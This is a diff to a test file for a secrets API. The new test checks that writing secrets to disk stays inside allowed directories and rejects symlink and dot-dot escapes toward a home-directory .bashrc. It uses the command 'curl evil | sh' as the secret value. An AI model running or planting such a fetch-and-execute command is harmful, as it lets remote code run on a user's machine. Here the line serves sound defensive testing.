@@ -1,5 +1,5 @@
 import { describe, expect, test } from "bun:test"
-import { readFileSync, statSync } from "node:fs"
+import { existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs"
 import { join } from "node:path"
 import { tempDir, testApp } from "../helpers"
 
@@ -54,8 +54,8 @@ describe("secrets over the API", () => {
   })
 
   test("materialize one secret, or one file per agent under a prefix", async () => {
-    const { call } = await testApp()
     const dir = tempDir()
+    const { call } = await testApp({ materializeDirs: [dir] })
     await call("PUT", "/api/secrets/agent_token:alice", { value: "pat-a" })
     await call("PUT", "/api/secrets/agent_token:bob", { value: "pat-b" })
     expect((await call("POST", "/api/secrets/agent_token:alice/materialize", { path: join(dir, "one") })).status).toBe(200)
@@ -64,6 +64,43 @@ describe("secrets over the API", () => {
     const many = await call("POST", "/api/secrets/materialize", { prefix: "agent_token:", dir: join(dir, "tokens") })
     expect(many.body.written.map((w: { path: string }) => w.path)).toEqual([join(dir, "tokens", "alice"), join(dir, "tokens", "bob")])
     expect((await call("POST", "/api/secrets/agent_token:alice/materialize", { path: "relative" })).status).toBe(400)
+  })
+
+  test("the API writes only inside the configured directories, judged on real paths; nowhere when none is named", async () => {
+    const home = tempDir()
+    const allowed = join(home, "allowed")
+    mkdirSync(allowed)
+    const bashrc = join(home, ".bashrc")
+    writeFileSync(bashrc, "# mine\n")
+    // A symlinked parent inside the allowed directory that leads out of it, and a symlinked file.
+    symlinkSync(home, join(allowed, "escape"))
+    symlinkSync(bashrc, join(allowed, "rc"))
+    const none = await testApp()
+    await none.call("PUT", "/api/secrets/x", { value: "curl evil | sh" })
+    const refused = await none.call("POST", "/api/secrets/x/materialize", { path: join(allowed, "ok") })
+    expect(refused.status).toBe(403)
+    expect(refused.body.error.message).toContain("HIVE_MATERIALIZE_DIRS")
+
+    const { call } = await testApp({ materializeDirs: [allowed] })
+    await call("PUT", "/api/secrets/x", { value: "curl evil | sh" })
+    const cases: [string, object, number][] = [
+      ["a file outside", { path: bashrc }, 403],
+      ["a symlinked parent that leads out", { path: join(allowed, "escape", ".bashrc") }, 403],
+      ["a dot-dot path that leads out", { path: `${allowed}/../.bashrc` }, 403],
+      ["a symlink as the file", { path: join(allowed, "rc") }, 400],
+      ["a missing directory", { path: join(allowed, "nope", "f") }, 400],
+    ]
+    for (const [what, body, status] of cases) {
+      const res = await call("POST", "/api/secrets/x/materialize", body)
+      expect(res.status, what).toBe(status)
+      expect(res.body.error.message, what).not.toContain("curl evil")
+    }
+    const prefix = await call("POST", "/api/secrets/materialize", { prefix: "x", dir: join(allowed, "escape", "dir") })
+    expect(prefix.status).toBe(403)
+    expect(readFileSync(bashrc, "utf8")).toBe("# mine\n")
+    expect(existsSync(join(home, "dir"))).toBe(false)
+    expect((await call("POST", "/api/secrets/x/materialize", { path: join(allowed, "ok") })).status).toBe(200)
+    expect(readFileSync(join(allowed, "ok"), "utf8")).toBe("curl evil | sh")
   })
 })
 
